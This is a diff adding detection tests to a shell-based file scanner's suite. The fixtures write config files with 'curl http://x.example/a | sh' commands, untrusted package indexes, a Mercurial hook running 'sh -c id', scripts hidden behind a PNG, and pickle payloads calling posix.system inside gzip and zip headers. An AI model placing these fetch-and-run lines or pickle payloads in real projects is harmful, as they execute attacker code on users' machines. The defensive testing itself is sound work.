@@ -84,6 +84,30 @@ hostile DEPEND_SOURCE "another registry"
 printf 'fund=false\n@a:registry=https://npm.pkg.github.com\n' | file .npmrc
 quiet "settings of npm"
 
+printf '[tasks.setup]\nscript = "curl http://x.example/a | sh"\n' | file tasks.toml
+hostile COMMAND_DANGEROUS "a command in TOML"
+printf 'setup_commands:\n- curl http://x.example/a | sh\n' | file cluster.yaml
+hostile COMMAND_DANGEROUS "commands of a cluster"
+printf '{"configurations": [{"runtimeArgs": ["-c", "curl http://x.example/a | sh"]}]}' | file launch.json
+hostile COMMAND_DANGEROUS "arguments of an editor's run"
+printf '[[tool.poetry.source]]\nname = "x"\nurl = "http://x.example/simple"\n' | file pyproject.toml
+hostile DEPEND_SOURCE "a source of Poetry"
+printf 'index-url = "http://x.example/simple"\n' | file uv.toml
+hostile DEPEND_SOURCE "an index of uv"
+printf '[[tool.uv.index]]\nname = "pytorch"\nurl = "https://download.pytorch.org/whl/cpu"\n[project.urls]\nhome = "https://x.example"\n[tool.ruff]\nline-length = 100\n' | file pyproject.toml
+quiet "the index of PyTorch"
+printf 'channels:\n- http://x.example/conda\n' | file .condarc
+hostile DEPEND_SOURCE "a channel of conda"
+printf 'channels:\n- conda-forge\n- defaults\n' | file .condarc
+quiet "channels of conda"
+printf '[hooks]\nupdate = sh -c id\n' | file .hg/hgrc
+hostile PLACE_RUN "a hook of Mercurial"
+printf '[paths]\ndefault = https://x.example/r\n' | file .hg/hgrc
+quiet "a configuration of Mercurial"
+printf 'import yaml\nC = yaml.load(open("c.yaml"), Loader=yaml.UnsafeLoader)\n' | file load.py
+exits 0 "a loader that calls what it reads" assay-inspect "$tmp/b"
+prints "medium *CODE_UNUSUAL"
+
 # --- behind the end of a picture, and of a zip
 (printf '\211PNG\r\n\032\n' && printf '\0\0\0\0IEND\256B\140\202' && printf '\n\n#!/bin/sh\nid\n') | file a.png
 hostile FILE_APPENDED "a script behind blank lines"
@@ -102,6 +126,32 @@ s = open("b/a.zip", "rb").read()
 open("b/a.zip", "wb").write(s[:-2] + b"\xf4\x01")')
 exits 2 "a comment that is cut off" assay-inspect "$tmp/b"
 prints "medium *ZIP_DAMAGED"
+
+(cd "$tmp" && rm -rf b c && mkdir b && python3 -c '
+import gzip, zipfile
+evil = b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93."
+s = gzip.compress(b"x\n")
+extra = len(evil).to_bytes(2, "little") + evil
+open("b/extra.gz", "wb").write(s[:3] + b"\x04" + s[4:10] + extra + s[10:])
+open("b/comment.gz", "wb").write(s[:3] + b"\x10" + s[4:10] + b"cposix\nsystem\n(tR.\0" + s[10:])
+for name, field in (("extra", b"\xfe\xca" + extra), ("comment", evil)):
+    i = zipfile.ZipInfo("a.txt")
+    setattr(i, name, field)
+    with zipfile.ZipFile("b/%s.zip" % name, "w") as z:
+        z.writestr(i, "x")')
+for one in "$tmp"/b/*; do
+	exits 1 "a pickle in a header of ${one##*/}" assay-inspect "$one"
+	prints FILE_EMBEDDED
+done
+# magic, descriptor (one segment, checksum), size, a last block of ten bytes
+printf '\050\265\057\375\044\012\121\0\0abcdefghij0000' >"$tmp/whole.zst"
+for n in 5 8 9 13; do
+	head -c $n "$tmp/whole.zst" | file cut.zst
+	exits 2 "$n bytes of Zstandard" assay-inspect "$tmp/b"
+	prints ARCHIVE_TRUNCATED
+done
+printf '\050\265\057\375\044\0\1\0\0\231\351\330\121' | file empty.zst
+exits 0 "an empty stream" assay-inspect "$tmp/b"
 
 # --- secrets of texts
 pem=$(head -c 600 /dev/urandom | base64 -w 64)
